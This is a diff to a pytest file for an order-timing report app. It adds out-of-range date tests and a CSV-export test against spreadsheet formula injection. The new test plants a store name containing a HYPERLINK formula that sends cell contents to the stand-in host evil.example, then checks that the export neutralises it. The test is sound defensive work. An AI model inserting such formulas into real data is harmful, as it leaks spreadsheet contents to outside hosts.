@@ -42,6 +42,7 @@ from html.parser import HTMLParser
 from zoneinfo import ZoneInfo
 
 import pytest
+from sqlalchemy import select
 
 from app.extensions import db
 from app.models import Courier, Order, OrderEvent, Store
@@ -405,6 +406,9 @@ def test_default_range_is_the_last_seven_local_days(app, client, manager, histor
     ({"courier": "x" * 40}, "Unknown courier"),
     ({"fulfillment": "drone"}, "Unknown fulfillment type"),
     ({"from": "2020-01-01", "to": "2026-01-01"}, "at most 366 days"),
+    # a day past Python's dates once was a 500 (its window's end overflowed)
+    ({"to": "9999-12-31"}, "out of range"),
+    ({"from": "0001-01-01", "to": "0001-01-02"}, "out of range"),
 ])
 def test_bad_filters_get_a_clear_message_not_a_500(client, manager, history, args, message):
     response = client.get("/reports", query_string=args)
@@ -487,3 +491,20 @@ def test_an_ungrouped_count_counts_every_order_in_the_report(app, history):
         with Report(parse(RANGE), Guide.from_config(app.config)) as report:
             assert report.stats(["end_to_end"])[None]["orders"] == 11  # as the summary says
         db.session.rollback()
+
+
+def test_the_csv_opens_in_a_spreadsheet_as_text_not_formulas(app, client, manager, history):
+    """UTF-8 announced (a byte-order mark: "—" and "≤" read right), a name that is a formula
+    kept as text, and a file name that tells one store's export from another's."""
+    with app.app_context():
+        store = db.session.execute(select(Store).filter_by(merchant_supplied_id="nyc")).scalar_one()
+        store.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+        db.session.commit()
+    response = client.get("/reports.csv", query_string={**RANGE, "store": "nyc", "fulfillment": "pickup"})
+    raw = response.get_data(as_text=True)
+    assert raw.startswith("\ufeffTiming report")
+    rows = list(csv.reader(io.StringIO(raw)))
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in [cell for row in rows for cell in row]
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    assert response.headers["Content-Disposition"] == (
+        f'attachment; filename="passline-report-{RANGE["from"]}-{RANGE["to"]}-nyc-pickup.csv"')
